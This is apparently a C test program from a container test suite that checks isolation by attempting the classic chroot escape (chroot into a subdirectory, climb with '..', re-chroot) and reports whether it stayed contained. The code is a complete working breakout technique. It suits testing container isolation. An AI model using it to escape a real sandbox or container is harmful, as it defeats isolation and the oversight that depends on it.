/* chroot-escape: the classic way out of a chroot, as any process of a
 * container that holds CAP_SYS_CHROOT may try it (test_exec_vm.sh in a
 * container, test_agent_host.sh in a test agent's root): chroot into a new
 * directory below DIR while the cwd stays outside it, climb from there with
 * "..", and chroot to where the climb ends. A container kept in its root by
 * a chroot alone ends up at the root of the whole mount namespace; one
 * pivoted into its root, in a namespace of its own with the old root
 * detached, ends up where it started.
 *
 * usage: chroot-escape DIR   (writable; DIR/jail is made there)
 * Prints "contained" and exits 0 when "/" is the same directory afterwards;
 * prints "escaped:" and the names in the new "/" and exits 1 when it is not;
 * exits 2 when a step fails. Static, never sanitized: it runs in a busybox
 * rootfs. */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CLIMB_STEPS 256      /* more ".." than any path has components */

static int failed(const char *what)
{
	printf("chroot-escape: %s: %s\n", what, strerror(errno));
	return 2;
}

int main(int argc, char **argv)
{
	char jail[4096];
	struct stat before, after;

	if (argc != 2 || snprintf(jail, sizeof(jail), "%s/jail", argv[1]) >= (int)sizeof(jail)) {
		fprintf(stderr, "usage: chroot-escape DIR\n");
		return 2;
	}
	if (stat("/", &before) < 0)
		return failed("stat /");
	if (mkdir(jail, 0700) < 0 && errno != EEXIST)
		return failed("mkdir DIR/jail");
	if (chdir("/") < 0 || chroot(jail) < 0)    /* the cwd stays at the old "/" */
		return failed("chroot DIR/jail");
	for (int i = 0; i < CLIMB_STEPS; i++)
		if (chdir("..") < 0)
			return failed("chdir ..");
	if (chroot(".") < 0 || chdir("/") < 0)
		return failed("chroot to where the climb ended");
	if (stat("/", &after) < 0)
		return failed("stat / after the climb");
	if (after.st_dev == before.st_dev && after.st_ino == before.st_ino) {
		printf("contained\n");
		return 0;
	}
	printf("escaped:");
	DIR *d = opendir("/");
	for (struct dirent *e; d && (e = readdir(d));)
		if (e->d_name[0] != '.')
			printf(" %s", e->d_name);
	printf("\n");
	return 1;
}
